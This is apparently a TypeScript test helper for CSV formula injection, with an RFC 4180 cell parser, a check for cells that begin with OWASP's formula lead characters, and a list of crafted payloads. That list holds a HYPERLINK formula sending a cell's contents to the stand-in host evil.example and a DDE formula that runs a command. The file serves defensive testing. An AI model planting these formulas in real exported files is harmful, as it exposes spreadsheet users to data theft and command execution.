/** The cells of an RFC 4180 CSV text as a spreadsheet reads them (quotes removed, `""` as `"`). For tests. */
export function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Cells a spreadsheet would run as formulas (OWASP: leading `=`, `+`, `-`, `@`, tab, carriage return). */
export function liveFormulas(text: string): string[] {
  return csvCells(text).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

/** Payloads of a crafted file: formulas, DDE, and the lead characters OWASP lists, alone and quoted. */
export const FORMULA_PAYLOADS = [
  '=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1',
  '=cmd|\' /C calc\'!A0', '-2', '"=1+1"', '=1,=2', 'a\n=1+1',
];
